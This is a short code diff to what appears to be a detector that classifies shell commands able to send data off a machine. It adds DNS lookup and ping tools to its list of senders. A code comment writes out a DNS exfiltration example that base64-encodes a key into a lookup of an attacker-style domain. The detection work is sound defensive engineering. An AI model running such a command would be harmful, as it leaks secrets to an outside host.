@@ -114,6 +114,10 @@ def _socat(inv: Invocation) -> Sent:
     return Sent(tuple(files), True)
 
 
+def _query(inv: Invocation) -> Sent:
+    return Sent()
+
+
 def _copy(short_values: str, long_values: frozenset[str]) -> Reader:
     """scp, rsync: local sources are sent when the destination is remote."""
 
@@ -189,4 +193,7 @@ SENDERS: Mapping[str, Reader] = MappingProxyType({
     "sftp": _batch, "ftp": _batch, "lftp": _batch,
     "aws": _aws, "gsutil": _cloud(("cp", "mv", "rsync")), "gcloud": _cloud(("cp", "mv", "rsync")),
     "rclone": _cloud(("copy", "copyto", "sync", "move", "moveto"), ("rcat",)), "gh": _gh,
+    # Names looked up or pinged carry data out too: `dig $(base64 key).evil.io`.
+    "dig": _query, "nslookup": _query, "host": _query, "drill": _query, "ping": _query,
+    "ping6": _query, "traceroute": _query, "whois": _query,
 })  # fmt: skip
